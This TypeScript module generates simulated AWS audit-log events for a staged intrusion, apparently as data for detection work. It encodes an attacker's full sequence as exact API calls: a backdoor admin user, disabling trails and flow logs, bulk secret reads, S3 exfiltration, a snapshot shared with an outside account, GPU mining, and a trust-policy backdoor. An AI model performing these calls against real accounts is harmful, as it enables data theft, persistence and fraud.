// An intrusion told in events: a CI user's access key leaks, and one night later there is a backdoor, a copy of the
// customers' data elsewhere, and a bill. Every stage leaves the traces that the real calls leave.

import { accessObject, denied, describeLaunch } from './activities.ts';
import { assumedRole, iamUser, otherAccount } from './actors.ts';
import { type Actor, type Event, type EventFields, writeEvent } from './event.ts';
import { type Random, seedRandom } from './random.ts';
import { type Scene, setScene } from './scene.ts';
import type { Account, World } from './world.ts';

export type Stage = { name: string; title: string; events: Event[] };
export type Story = {
  stages: Stage[];
  attackerIps: string[];
  leakedKey: string;
  backdoorUser: string;
  backdoorKey: string;
  outsideAccount: string;
};

export const attacker = {
  cliIp: '192.0.2.66',
  consoleIp: '192.0.2.187',
  ipv6: '2001:db8:bad:cafe::17',
  cli: 'aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off command/',
  browser: 'Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0',
  outsideAccount: '999988887777',
};
const backdoorUser = 'svc-backup-agent';

type Stager = (
  actor: Actor,
  account: Account,
  fields: Pick<EventFields, 'service' | 'name'> & Partial<EventFields>,
  secondsLater?: number,
) => Event;

/**
 * `night`: seconds since 1970 of midnight (UTC) of the attack's first day. `home` owns the leaked key; its pipeline may
 * assume `deploy-prod` in `prod`.
 */
export function tellStory(world: World, home: Account, prod: Account, night: number): Story {
  const random = seedRandom('story', true);
  let clock = night + 21 * 3600 + 14 * 60 + 7;
  const at = (hours: number, minutes: number, days = 0) => {
    clock = night + days * 86_400 + hours * 3600 + minutes * 60 + random.below(40);
  };
  const stages: Stage[] = [];
  const stage = (name: string, title: string) => stages.push({ name, title, events: [] });
  const keep = (event: Event) => {
    stages.at(-1)!.events.push(event);
    return event;
  };
  const call: Stager = (actor, account, fields, secondsLater = 3 + random.below(20)) => {
    clock += secondsLater;
    const global = fields.service === 'iam' || fields.service === 'signin';
    const event = writeEvent(random, {
      time: clock,
      actor,
      account: account.id,
      region: fields.region ?? 'us-east-1',
      host: global ? `${fields.service}.amazonaws.com` : undefined,
      ...fields,
    });
    return keep(event);
  };

  const ci = home.users[0]!;
  const leaked = iamUser({
    account: home.id,
    user: ci.name,
    userId: ci.id,
    accessKey: ci.accessKey,
    ip: attacker.cliIp,
    agent: `${attacker.cli}sts.get-caller-identity`,
  });
  const as = (actor: Actor, command: string): Actor => ({ ...actor, agent: attacker.cli + command });

  stage('first-use', 'The leaked key is tried from an address that the pipeline never had');
  call(leaked, home, { service: 'sts', name: 'GetCallerIdentity' });

  stage('recon', 'An automated sweep asks what the key may do; most answers are AccessDenied');
  sweep(call, leaked, home, world, random);

  stage('backdoor', 'What it may do is create users: a new administrator with its own key and password');
  const backdoorId = `AIDA${random.base32(17)}`;
  const backdoorKey = `AKIA${random.base32(16)}`;
  const iam = (name: string, request: object, response: object | null, readOnly = false) =>
    call(as(leaked, `iam.${dashed(name)}`), home, {
      service: 'iam',
      name,
      readOnly,
      request: JSON.stringify(request),
      response: response === null ? undefined : JSON.stringify(response),
    });
  clock += 190;
  iam(
    'CreateUser',
    { userName: backdoorUser, path: '/' },
    {
      user: {
        path: '/',
        userName: backdoorUser,
        userId: backdoorId,
        arn: `arn:aws:iam::${home.id}:user/${backdoorUser}`,
        createDate: writeDate(clock),
      },
    },
  );
  iam(
    'CreateAccessKey',
    { userName: backdoorUser },
    {
      accessKey: {
        userName: backdoorUser,
        accessKeyId: backdoorKey,
        status: 'Active',
        createDate: writeDate(clock),
      },
    },
  );
  iam('AttachUserPolicy', { userName: backdoorUser, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, null);
  iam(
    'CreateLoginProfile',
    { userName: backdoorUser, passwordResetRequired: false },
    {
      loginProfile: { userName: backdoorUser, createDate: writeDate(clock), passwordResetRequired: false },
    },
  );

  stage('console', 'The new user logs in to the console without MFA, at the second try');
  const bare = {
    account: home.id,
    user: backdoorUser,
    userId: backdoorId,
    ip: attacker.consoleIp,
    agent: attacker.browser,
  };
  const signIn = (ok: boolean) =>
    call(iamUser({ ...bare, accessKey: null }), home, {
      service: 'signin',
      name: 'ConsoleLogin',
      readOnly: false,
      eventType: 'AwsConsoleSignIn',
      host: 'us-east-1.signin.aws.amazon.com',
      response: `{"ConsoleLogin":"${ok ? 'Success' : 'Failure'}"}`,
      additional:
        '{"LoginTo":"https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true","MobileVersion":"No","MFAUsed":"No"}',
      ...(ok ? {} : { extra: ',"errorMessage":"Failed authentication"' }),
    });
  clock += 160;
  signIn(false);
  signIn(true);
  const consoleSession = iamUser({
    ...bare,
    accessKey: `ASIA${random.base32(16)}`,
    session: { created: clock, mfa: false },
  });
  const console = (account: Account, fields: Parameters<Stager>[2]) =>
    call(consoleSession, account, { extra: ',"sessionCredentialFromConsole":"true"', ...fields });

  stage('blinding', "The account's own trail and flow logs are switched off; the organisation's trail keeps recording");
  console(home, {
    service: 'cloudtrail',
    name: 'DescribeTrails',
    request: '{"trailNameList":[],"includeShadowTrails":true}',
  });
  const trail = `arn:aws:cloudtrail:us-east-1:${home.id}:trail/${home.name}-trail`;
  console(home, { service: 'cloudtrail', name: 'StopLogging', readOnly: false, request: `{"name":"${trail}"}` });
  console(home, {
    service: 'cloudtrail',
    name: 'PutEventSelectors',
    readOnly: false,
    request: `{"trailName":"${trail}","eventSelectors":[{"readWriteType":"WriteOnly","includeManagementEvents":false,"dataResources":[],"excludeManagementEventSources":[]}]}`,
    response: `{"trailARN":"${trail}","eventSelectors":[{"readWriteType":"WriteOnly","includeManagementEvents":false,"dataResources":[]}]}`,
  });
  console(home, {
    service: 'ec2',
    name: 'DeleteFlowLogs',
    readOnly: false,
    request: `{"DeleteFlowLogsRequest":{"FlowLogId":{"tag":1,"content":"fl-0${home.id}0a1"}}}`,
    response: '{"DeleteFlowLogsResponse":{"unsuccessful":""}}',
  });

  stage('crossing', 'The pipeline role opens the door to the production account');
  const deployRole = { name: 'deploy-prod', id: `AROA${random.base32(17)}` };
  const deployKey = `ASIA${random.base32(16)}`;
  at(22, 31);
  const shared = random.uuid();
  const assume: Partial<EventFields> & Pick<EventFields, 'service' | 'name'> = {
    service: 'sts',
    name: 'AssumeRole',
    request: `{"roleArn":"arn:aws:iam::${prod.id}:role/${deployRole.name}","roleSessionName":"release-2214","durationSeconds":43200}`,
    response: `{"credentials":{"accessKeyId":"${deployKey}","sessionToken":"IQoJb3JpZ2luX2VjE${random.base64(48)}==","expiration":"${writeDate(clock + 43_200)}"},"assumedRoleUser":{"assumedRoleId":"${deployRole.id}:release-2214","arn":"arn:aws:sts::${prod.id}:assumed-role/${deployRole.name}/release-2214"}}`,
    resources: `[{"accountId":"${prod.id}","type":"AWS::IAM::Role","ARN":"arn:aws:iam::${prod.id}:role/${deployRole.name}"}]`,
    sharedEventId: shared,
  };
  call(as(leaked, 'sts.assume-role'), home, assume);
  call(
    otherAccount({ account: home.id, principalId: ci.id, ip: attacker.cliIp, agent: `${attacker.cli}sts.assume-role` }),
    prod,
    assume,
    0,
  );
  const deploy = (command: string, ip = attacker.cliIp) =>
    assumedRole({
      account: prod.id,
      role: deployRole.name,
      roleId: deployRole.id,
      session: 'release-2214',
      accessKey: deployKey,
      created: night + 22 * 3600 + 31 * 60,
      ip,
      agent: attacker.cli + command,
    });

  stage('secrets', 'Every secret of production is read; one is out of reach');
  at(22, 36);
  call(deploy('secretsmanager.list-secrets'), prod, {
    service: 'secretsmanager',
    name: 'ListSecrets',
    request: '{"maxResults":100}',
  });
  prod.secrets.forEach((secret, i) => {
    const arn = `arn:aws:secretsmanager:us-east-1:${prod.id}:secret:${secret}`;
    const actor = deploy('secretsmanager.get-secret-value');
    call(actor, prod, {
      service: 'secretsmanager',
      name: 'GetSecretValue',
      request: `{"secretId":"${arn}"}`,
      error: i === 4 ? ['AccessDeniedException', 'Access to KMS is not allowed'] : null,
    });
  });
  call(deploy('ssm.get-parameters-by-path'), prod, {
    service: 'ssm',
    name: 'GetParametersByPath',
    request: '{"path":"/shop/prod","recursive":true,"withDecryption":true}',
  });

  stage('exfiltration', 'The customer exports are copied out, object by object, for 70 minutes');
  at(22, 52);
  const bucket = prod.buckets[0]!;
  const sceneOfProd: Scene = setScene(world, prod, 'us-east-1', night, 'story', 0.1);
  call(deploy('s3api.list-buckets'), prod, { service: 's3', name: 'ListBuckets', host: 's3.amazonaws.com' });
  call(deploy('s3.sync'), prod, {
    service: 's3',
    name: 'ListObjects',
    data: true,
    request: `{"list-type":"2","bucketName":"${bucket}","encoding-type":"url","Host":"${bucket}.s3.us-east-1.amazonaws.com"}`,
    host: `${bucket}.s3.us-east-1.amazonaws.com`,
    resources: `[{"accountId":"${prod.id}","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::${bucket}"}]`,
  });
  const puller = deploy('s3.sync', attacker.ipv6);
  for (let i = 0; i < 380; i++) {
    clock += 6 + random.below(11);
    keep(
      accessObject(sceneOfProd, random, clock, {
        actor: puller,
        bucket,
        key: `daily/2026-${String(1 + (i % 3)).padStart(2, '0')}/customers-${String(i).padStart(4, '0')}.parquet`,
        bytes: 14_000_000 + random.below(9_000_000),
      }),
    );
  }

  stage('snapshot', 'A disk snapshot of the order database is shared with an account outside');
  at(0, 24, 1);
  const snapshot = `snap-0${prod.id}d1`;
  call(deploy('ec2.create-snapshot'), prod, {
    service: 'ec2',
    name: 'CreateSnapshot',
    readOnly: false,
    request: `{"volumeId":"vol-0${prod.id}99","description":"nightly"}`,
    response: `{"requestId":"${random.uuid()}","snapshotId":"${snapshot}","volumeId":"vol-0${prod.id}99","status":"pending","ownerId":"${prod.id}","volumeSize":"500","description":"nightly","encrypted":false}`,
  });
  clock += 400;
  call(deploy('ec2.modify-snapshot-attribute'), prod, {
    service: 'ec2',
    name: 'ModifySnapshotAttribute',
    readOnly: false,
    request: `{"snapshotId":"${snapshot}","createVolumePermission":{"add":{"items":[{"userId":"${attacker.outsideAccount}"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}`,
    response: `{"requestId":"${random.uuid()}","_return":true}`,
  });

  stage('mining', 'GPU machines start in two regions that the company never used');
  at(0, 41, 1);
  for (const region of ['sa-east-1', 'ap-northeast-3']) {
    const name = `k-${random.hex(1)}`;
    call(deploy('ec2.create-key-pair'), prod, {
      service: 'ec2',
      name: 'CreateKeyPair',
      readOnly: false,
      region,
      request: `{"keyName":"${name}","keyType":"rsa","keyFormat":"pem"}`,
      response: `{"requestId":"${random.uuid()}","keyName":"${name}","keyPairId":"key-0${prod.id}"}`,
    });
    call(deploy('ec2.authorize-security-group-ingress'), prod, {
      service: 'ec2',
      name: 'AuthorizeSecurityGroupIngress',
      readOnly: false,
      region,
      request: `{"groupId":"sg-0${prod.id}e0","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}`,
      response: `{"requestId":"${random.uuid()}","_return":true}`,
    });
    for (let i = 0; i < 5; i++) {
      const full = i < 2;
      call(deploy('ec2.run-instances'), prod, {
        service: 'ec2',
        name: 'RunInstances',
        readOnly: false,
        region,
        ...describeLaunch(
          prod.id,
          region,
          [`i-0${random.hex(4).slice(1)}`],
          full ? 'p4d.24xlarge' : 'g5.12xlarge',
          random,
        ),
        error: full
          ? [
              'Client.VcpuLimitExceeded',
              'You have requested more vCPU capacity than your current vCPU limit of 64 allows for the instance bucket that the specified instance type belongs to.',
            ]
          : null,
      });
    }
  }

  stage('cleanup', 'Traces are removed, and a second door is left open: a role that trusts the outside account');
  at(1, 12, 1);
  call(deploy('iam.update-assume-role-policy'), prod, {
    service: 'iam',
    name: 'UpdateAssumeRolePolicy',
    readOnly: false,
    request: JSON.stringify({
      roleName: 'support-readonly',
      policyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Principal: { Service: 'support.amazonaws.com' }, Action: 'sts:AssumeRole' },
          {
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${attacker.outsideAccount}:root` },
            Action: 'sts:AssumeRole',
          },
        ],
      }),
    }),
  });
  call(deploy('logs.delete-log-group'), prod, {
    service: 'logs',
    name: 'DeleteLogGroup',
    readOnly: false,
    request: '{"logGroupName":"/shop/prod/audit"}',
  });
  console(home, {
    service: 'iam',
    name: 'DeleteLoginProfile',
    readOnly: false,
    request: `{"userName":"${backdoorUser}"}`,
  });
  console(home, {
    service: 'iam',
    name: 'DetachUserPolicy',
    readOnly: false,
    request: `{"userName":"${backdoorUser}","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}`,
  });
  console(home, {
    service: 'iam',
    name: 'DeleteUser',
    readOnly: false,
    request: `{"userName":"${backdoorUser}"}`,
    error: ['DeleteConflictException', 'Cannot delete entity, must delete access keys first.'],
  });

  stage('response', 'The next morning the key is disabled, and later tries of it fail');
  at(9, 5, 1);
  const responder = setScene(world, home, 'us-east-1', night + 86_400, 'responder', 1).people[0]!;
  call(responder, home, { service: 'iam', name: 'ListAccessKeys', request: `{"userName":"${ci.name}"}` });
  call(responder, home, {
    service: 'iam',
    name: 'UpdateAccessKey',
    readOnly: false,
    request: `{"userName":"${ci.name}","accessKeyId":"${ci.accessKey}","status":"Inactive"}`,
  });
  at(20, 2, 1);
  for (let i = 0; i < 6; i++)
    call(as(leaked, 'sts.get-caller-identity'), home, {
      service: 'sts',
      name: 'GetCallerIdentity',
      error: ['InvalidClientTokenId', 'The security token included in the request is invalid.'],
    });

  stage('return', 'Nobody looked at the role: the outside account comes back through it');
  at(13, 2, 2);
  const support = { name: 'support-readonly', id: `AROA${random.base32(17)}` };
  const supportKey = `ASIA${random.base32(16)}`;
  call(
    otherAccount({
      account: attacker.outsideAccount,
      principalId: `AIDA${random.base32(17)}`,
      ip: attacker.consoleIp,
      agent: `${attacker.cli}sts.assume-role`,
    }),
    prod,
    {
      service: 'sts',
      name: 'AssumeRole',
      request: `{"roleArn":"arn:aws:iam::${prod.id}:role/${support.name}","roleSessionName":"s"}`,
      response: `{"credentials":{"accessKeyId":"${supportKey}","sessionToken":"IQoJb3JpZ2luX2VjE${random.base64(48)}==","expiration":"${writeDate(clock + 3600)}"},"assumedRoleUser":{"assumedRoleId":"${support.id}:s","arn":"arn:aws:sts::${prod.id}:assumed-role/${support.name}/s"}}`,
      resources: `[{"accountId":"${prod.id}","type":"AWS::IAM::Role","ARN":"arn:aws:iam::${prod.id}:role/${support.name}"}]`,
    },
  );
  const back = assumedRole({
    account: prod.id,
    role: support.name,
    roleId: support.id,
    session: 's',
    accessKey: supportKey,
    created: clock,
    ip: attacker.consoleIp,
    agent: `${attacker.cli}s3api.list-buckets`,
  });
  call(back, prod, { service: 's3', name: 'ListBuckets', host: 's3.amazonaws.com' });
  call(as(back, 'rds.describe-db-snapshots'), prod, {
    service: 'rds',
    name: 'DescribeDBSnapshots',
    request: '{"snapshotType":"manual"}',
  });

  return {
    stages,
    attackerIps: [attacker.cliIp, attacker.consoleIp, attacker.ipv6],
    leakedKey: ci.accessKey,
    backdoorUser,
    backdoorKey,
    outsideAccount: attacker.outsideAccount,
  };
}

const sweepCalls: [service: string, names: string][] = [
  [
    'iam',
    'ListUsers ListRoles ListGroups ListPolicies GetAccountAuthorizationDetails GetAccountSummary ListAccessKeys GetAccountPasswordPolicy',
  ],
  ['s3', 'ListBuckets'],
  [
    'ec2',
    'DescribeInstances DescribeSnapshots DescribeVolumes DescribeSecurityGroups DescribeRegions DescribeKeyPairs',
  ],
  ['rds', 'DescribeDBInstances DescribeDBSnapshots'],
  ['lambda', 'ListFunctions20150331'],
  ['secretsmanager', 'ListSecrets'],
  ['ssm', 'DescribeParameters DescribeInstanceInformation'],
  ['kms', 'ListKeys ListAliases'],
  ['dynamodb', 'ListTables'],
  ['organizations', 'DescribeOrganization ListAccounts'],
  ['guardduty', 'ListDetectors'],
  ['cloudtrail', 'DescribeTrails'],
  ['ses', 'GetSendQuota ListIdentities'],
  ['bedrock', 'ListFoundationModels'],
];
const allowedInSweep = new Set(['GetCallerIdentity', 'ListUsers', 'ListRoles', 'DescribeRegions', 'GetAccountSummary']);

function sweep(call: Stager, actor: Actor, account: Account, world: World, random: Random): void {
  for (const region of [...world.regions, 'sa-east-1', 'ap-northeast-3'])
    for (const [service, names] of sweepCalls) {
      if ((service === 'iam' || service === 'organizations' || service === 's3') && region !== 'us-east-1') continue;
      for (const name of names.split(' '))
        call(
          { ...actor, agent: `${attacker.cli}${service}.${dashed(name)}` },
          account,
          {
            service,
            name,
            region,
            error: allowedInSweep.has(name)
              ? null
              : service === 'ec2'
                ? [
                    'Client.UnauthorizedOperation',
                    `You are not authorized to perform this operation. User: ${actor.arn} is not authorized to perform: ec2:${name}`,
                  ]
                : denied(actor, `${service}:${name}`),
          },
          random.below(6),
        );
    }
}

/** A time as CloudTrail writes it in responses: `Mar 11, 2026, 9:23:00 PM`. */
function writeDate(time: number): string {
  const date = new Date(time * 1000);
  const month = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ')[date.getUTCMonth()];
  const hour = date.getUTCHours();
  const clock = `${hour % 12 || 12}${date.toISOString().slice(13, 19)} ${hour < 12 ? 'AM' : 'PM'}`;
  return `${month} ${date.getUTCDate()}, ${date.getUTCFullYear()}, ${clock}`;
}

/** `CreateAccessKey` → `create-access-key`, as the AWS CLI spells its commands. */
function dashed(name: string): string {
  return name.replace(/(?<=[a-z])(?=[A-Z])/g, '-').toLowerCase();
}
